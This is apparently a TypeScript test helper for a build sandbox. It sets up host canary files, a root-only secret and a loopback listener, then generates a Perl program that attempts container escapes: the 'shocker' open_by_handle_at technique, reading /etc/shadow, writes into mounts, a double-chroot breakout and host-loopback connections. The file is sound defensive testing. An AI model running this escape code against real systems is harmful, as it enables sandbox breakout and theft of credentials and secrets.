// What the sandbox escape tests attack with: a Perl program (perl is on the host and in every Debian image,
// perl-base) that tries every way out the sandbox was built against, and the host state it must not change.
// Every attempt prints a line; a line starting with BREACH means an attack worked.
import { createHash } from 'node:crypto';
import { chmod, lstat, mkdir, mkdtemp, readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

export interface HostTargets {
  /** A folder anyone may write (0777) holding a file of known content: a write that reaches it shows. */
  canaryDir: string;
  canaryFile: string;
  canaryHash: string;
  /** A root-only file (0600) with a random secret: read by anything that gets out. */
  secretFile: string;
  secret: string;
  /** A TCP listener on the host's loopback, counting connections (a database, a broker, IMG's API). */
  listener: Server;
  port: number;
  connections: () => number;
}

export async function hostTargets(): Promise<HostTargets> {
  const base = await mkdtemp(join(tmpdir(), 'imger-escape-host-'));
  await chmod(base, 0o755);
  const canaryDir = join(base, 'canary');
  await mkdir(canaryDir);
  await chmod(canaryDir, 0o777);
  const canaryFile = join(canaryDir, 'canary');
  const canary = `canary ${Math.random()}\n`;
  await writeFile(canaryFile, canary);
  await chmod(canaryFile, 0o666);
  const secret = `IMGSECRET${createHash('sha256').update(String(Math.random())).digest('hex')}`;
  const secretFile = join(base, 'secret');
  await writeFile(secretFile, `${secret}\n`, { mode: 0o600 });
  let connections = 0;
  const listener = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const address = listener.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  return {
    canaryDir,
    canaryFile,
    canaryHash: createHash('sha256').update(canary).digest('hex'),
    secretFile,
    secret,
    listener,
    port,
    connections: () => connections,
  };
}

/** What must still hold after a build: the canary folder as it was, the secret file unread-looking, no calls. */
export async function hostUntouched(targets: HostTargets): Promise<string[]> {
  const problems: string[] = [];
  const names = await readdir(targets.canaryDir);
  if (names.join(',') !== 'canary') problems.push(`the canary folder holds ${names.join(', ')}`);
  const hash = createHash('sha256')
    .update(await readFile(targets.canaryFile))
    .digest('hex');
  if (hash !== targets.canaryHash) problems.push('the canary file changed');
  const info = await lstat(targets.secretFile);
  if ((info.mode & 0o777) !== 0o600 || info.uid !== 0) problems.push('the secret file changed');
  if (targets.connections() > 0)
    problems.push(`${targets.connections()} connection(s) to the host's loopback`);
  return problems;
}

/** Text that must never appear in a log or an artifact: the secret, and the host's /etc/shadow. */
export async function leaks(targets: HostTargets, text: string): Promise<string[]> {
  const found: string[] = [];
  if (text.includes(targets.secret)) found.push('the secret');
  const shadow = (await readFile('/etc/shadow', 'utf8')).trim();
  if (text.includes(shadow)) found.push('/etc/shadow');
  return found;
}

/**
 * The attack, as a Perl program: open_by_handle_at on every file system it can name (the "shocker" escape:
 * an ext4 root is inode 2), writes into every mount it sees and into the host's canary folder, a double
 * chroot out of a chroot, reading the secret by its host path, and connecting to the host's loopback.
 */
export function escapeProgram(targets: HostTargets, label: string): string {
  return `#!/usr/bin/perl
use strict; use warnings;
my ($label, $secret, $canary, $port) = (${JSON.stringify(label)}, ${JSON.stringify(targets.secretFile)}, ${JSON.stringify(targets.canaryDir)}, ${targets.port});
$| = 1;
sub say { print "ESCAPE[$label] @_\\n"; }
sub breach { print "BREACH[$label] @_\\n"; }

my @mounts;
if (open(my $mi, '<', '/proc/self/mountinfo')) {
  while (<$mi>) { my @f = split / /; push @mounts, $f[4]; }
}
say("mounts: @mounts");

# open_by_handle_at (304) with handles guessed (ext4 root: inode 2, generation 0) and handles of what it sees
# (name_to_handle_at, 303), against a descriptor of every mount.
my @handles = (pack('LlLL', 8, 1, 2, 0), pack('LlLL', 8, 1, 1, 0), pack('LlLLL', 12, 2, 2, 0, 0));
for my $path ('/', @mounts) {
  my $buf = pack('Ll', 128, 0) . ("\\0" x 128);
  my $mnt = pack('l', 0);
  my $name = "$path";
  if (syscall(303, -100, $name, $buf, $mnt, 0) == 0) {
    my ($bytes, $type) = unpack('Ll', $buf);
    push @handles, substr($buf, 0, 8 + $bytes);
  }
}
my ($tries, %errors) = (0);
for my $path ('/', @mounts) {
  next unless opendir(my $dh, $path);
  my $fd = fileno($dh);
  for my $handle (@handles) {
    my $copy = $handle;
    $tries++;
    my $r = syscall(304, $fd, $copy, 0);
    if ($r >= 0) {
      breach("open_by_handle_at on $path opened a file system root");
      my $target = 'etc/shadow' . '';
      my $shadow = syscall(257, $r, $target, 0);
      if ($shadow >= 0 && open(my $fh, '<&=', $shadow)) { local $/; breach('read by handle: ' . <$fh>); }
    } else {
      $errors{"$!"}++;
    }
  }
}
say("open_by_handle_at: $tries tries on " . (1 + @mounts) . ' mounts: ' . join(', ', sort keys %errors));

# Writes: into every mount, and into the host's canary folder and secret by their host paths.
for my $path (@mounts, $canary) {
  my $file = "$path/imger-escape-$$";
  if (open(my $fh, '>', $file)) { close $fh; unlink $file; say("wrote into $path"); }
}
if (open(my $fh, '>>', "$canary/canary")) { print $fh "written by $label\\n"; close $fh; say('appended to a canary at the host path, in the sandbox'); }
if (open(my $fh, '<', $secret)) { local $/; breach('read the secret: ' . <$fh>); }
else { say("secret at its host path: $!"); }

# A chroot, then climbing out of it with the working directory left outside, then chroot('.').
my $pid = fork();
if (defined $pid && $pid == 0) {
  mkdir '/tmp/imger-jail';
  if (chroot('/tmp/imger-jail')) {
    chdir('..') for 1 .. 64;
    chroot('.');
    if (-e $secret || -e $canary) { breach('double chroot reached the host'); }
    else { say('double chroot: no host marker from here'); }
    if (open(my $fh, '<', '/etc/shadow')) { local $/; my $t = <$fh>; say('double chroot: /etc/shadow readable (' . length($t) . ' bytes)'); print "SHADOW[$label]$t\\n"; }
  } else {
    say("chroot: $!");
  }
  exit 0;
}
waitpid($pid, 0) if defined $pid;

# The host's loopback: directly, and through user-mode networking's gateway.
use Socket;
for my $host ('127.0.0.1', '10.0.2.2') {
  socket(my $s, PF_INET, SOCK_STREAM, 0) or next;
  if (connect($s, sockaddr_in($port, inet_aton($host)))) { breach("connected to $host:$port"); }
  else { say("connect $host:$port: $!"); }
  close $s;
}
say('done');
`;
}
